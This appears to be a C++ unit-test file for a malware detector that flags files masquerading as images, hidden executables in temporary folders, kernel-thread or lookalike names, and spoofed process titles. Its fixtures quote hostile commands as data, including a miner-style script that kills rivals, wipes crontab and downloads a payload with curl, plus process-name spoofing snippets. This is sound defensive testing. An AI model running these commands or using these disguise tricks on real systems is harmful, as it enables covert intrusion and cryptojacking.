#include <gtest/gtest.h>

#include "detect/detector_test_support.h"
#include "detect/elf_sample_test_support.h"

namespace lazaret::detect {

extern const Detector masquerade_file_type_detector;
extern const Detector masquerade_location_detector;
extern const Detector masquerade_name_detector;

namespace {

using test::inspect;

std::string program() {
  test::ElfSample elf;
  elf.type = 2;
  return elf.build();
}
std::string library() {
  test::ElfSample elf;
  elf.soname = "libx.so.1";
  return elf.build();
}

std::vector<std::string> type_rules(std::string path, std::string content) {
  return inspect(masquerade_file_type_detector,
                 {.path = std::move(path), .content = std::move(content)})
      .rules();
}
std::vector<std::string> location_rules(std::string path, std::string content,
                                        std::uint32_t mode = 0755) {
  return inspect(masquerade_location_detector,
                 {.path = std::move(path), .content = std::move(content), .mode = mode})
      .rules();
}
std::vector<std::string> name_rules(std::string path, std::string content,
                                    std::uint32_t mode = 0755) {
  return inspect(masquerade_name_detector,
                 {.path = std::move(path), .content = std::move(content), .mode = mode})
      .rules();
}
using Ids = std::vector<std::string>;

TEST(MasqueradeFileType, ScriptAsPicture) {
  EXPECT_EQ(type_rules("/var/www/logo3.jpg", "#!/bin/bash\ncrontab -r\n"),
            Ids{"impersonation.script-as-media"});
  EXPECT_EQ(type_rules("/srv/Logo.JPG", "#!/bin/sh\necho\n"), Ids{"impersonation.script-as-media"});
}

TEST(MasqueradeFileType, ShellWithoutAnInterpreterLine) {
  EXPECT_EQ(type_rules("/srv/logo3.jpg",
                       "ps auxf|grep stratum|xargs kill -9\ncrontab -r || true\n"
                       "curl -o /var/tmp/a http://192.0.2.1:8220/gcc\nchmod 777 /var/tmp/a\n"),
            Ids{"impersonation.script-as-media"});
}

TEST(MasqueradeFileType, InnocentTextUnderAPicturesName) {
  EXPECT_EQ(type_rules("/srv/a.png", "version https://git-lfs.github.com/spec/v1\noid sha256:0\n"),
            Ids{});
  EXPECT_EQ(type_rules("/srv/a.jpg", "<html><body>404 Not Found</body></html>\n"), Ids{});
  EXPECT_EQ(type_rules("/srv/a.sh", "#!/bin/sh\ncurl a | bash\n"), Ids{});
  EXPECT_EQ(type_rules("/srv/notes.txt", "#!/bin/sh\n"), Ids{}) << "scripts are text";
}

TEST(MasqueradeFileType, ExecutableAsPictureAndAsText) {
  EXPECT_EQ(type_rules("/srv/a.png", program()), Ids{"impersonation.elf-as-media"});
  EXPECT_EQ(type_rules("/srv/a.log", program()), Ids{"impersonation.elf-as-text"});
  EXPECT_EQ(type_rules("/usr/bin/a", program()), Ids{});
  EXPECT_EQ(type_rules("/usr/lib/libfoo.so.1.2", program()), Ids{});
}

TEST(MasqueradeLocation, HiddenExecutables) {
  EXPECT_EQ(location_rules("/tmp/.x", program()), Ids{"impersonation.hidden-executable"});
  EXPECT_EQ(location_rules("/var/tmp/.cache/run", program(), 0644),
            Ids{"impersonation.hidden-executable"});
  EXPECT_EQ(location_rules("/dev/shm/.s", "#!/bin/sh\nid\n"),
            Ids{"impersonation.hidden-executable"});
  EXPECT_EQ(location_rules("/opt/.../a", program()), Ids{"impersonation.hidden-executable"});
  EXPECT_EQ(location_rules("/opt/.. /a", program()), Ids{"impersonation.hidden-executable"});
  EXPECT_EQ(location_rules("/usr/bin/.sshd", program()), Ids{"impersonation.hidden-executable"});
}

TEST(MasqueradeLocation, HiddenFoldersOfLanguagesAreNormal) {
  EXPECT_EQ(location_rules("/root/.cargo/bin/rustc", program()), Ids{});
  EXPECT_EQ(location_rules("/app/node_modules/.bin/esbuild", program()), Ids{});
  EXPECT_EQ(location_rules("/usr/lib/python3/dist-packages/numpy/.libs/libx.so", library()), Ids{});
  EXPECT_EQ(location_rules("/tmp/.x", "no program\n", 0644), Ids{});
}

TEST(MasqueradeLocation, TemporaryAndOddPlaces) {
  EXPECT_EQ(location_rules("/var/tmp/sshd", program()), Ids{"impersonation.service-in-temp"});
  EXPECT_EQ(location_rules("/tmp/conftest", program()), Ids{"impersonation.executable-in-temp"});
  EXPECT_EQ(location_rules("/tmp/libx.so", library()), Ids{});
  EXPECT_EQ(location_rules("/etc/ld", program()), Ids{"impersonation.executable-in-odd-place"});
  EXPECT_EQ(location_rules("/etc/init.d/ssh", "#!/bin/sh\n"), Ids{});
  EXPECT_EQ(location_rules("/usr/sbin/sshd", program()), Ids{});
}

TEST(MasqueradeName, KernelThreads) {
  for (const char* name : {"kthreadd", "[kworker]", "kworker", "kworkerds", "ksoftirqd", "kswapd0",
                           "kdevtmpfsi", "[netns]"}) {
    EXPECT_EQ(name_rules(std::string("/usr/bin/") + name, program()),
              Ids{"impersonation.kernel-thread-name"})
        << name;
  }
  for (const char* name : {"netns", "kworker-exporter", "kill", "[", "writeback", "watchdog"})
    EXPECT_EQ(name_rules(std::string("/usr/bin/") + name, program()), Ids{}) << name;
  EXPECT_EQ(name_rules("/usr/share/doc/kworker", "about kernel threads\n"), Ids{});
}

TEST(MasqueradeName, Lookalikes) {
  for (const char* name :
       {"pythno", "sytsemd", "systernd", "ngnix", "sshd ", "dockerd\xe2\x80\x8b"})
    EXPECT_EQ(name_rules(std::string("/usr/bin/") + name, program()),
              Ids{"impersonation.lookalike-name"})
        << name;
  for (const char* name : {"python", "python3", "nginx", "bash", "sh", "basher", "java"})
    EXPECT_EQ(name_rules(std::string("/usr/bin/") + name, program()), Ids{}) << name;
}

TEST(MasqueradeName, ProcessTitles) {
  EXPECT_EQ(name_rules("/run.sh", "#!/bin/bash\nexec -a '[kworker/0:1]' /tmp/x -c c.json\n"),
            Ids{"impersonation.process-title"});
  EXPECT_EQ(name_rules("/a.py",
                       "#!/usr/bin/python3\nimport setproctitle\n"
                       "setproctitle.setproctitle('[kthreadd]')\n"),
            Ids{"impersonation.process-title"});
  EXPECT_EQ(name_rules("/a.pl", "#!/usr/bin/perl\n$0 = \"[kswapd0]\";\n"),
            Ids{"impersonation.process-title"});
  EXPECT_EQ(name_rules("/run.sh", "#!/bin/bash\nexec -a \"$0\" /usr/lib/app/app\n"), Ids{});
  EXPECT_EQ(name_rules("/run.sh", "#!/bin/bash\n# exec -a '[kworker/0:1]' x\n"), Ids{});
  EXPECT_EQ(name_rules("/a.pl", "#!/usr/bin/perl\n$0 = \"kill-old-logs\";\n"), Ids{});
}

}  // namespace
}  // namespace lazaret::detect
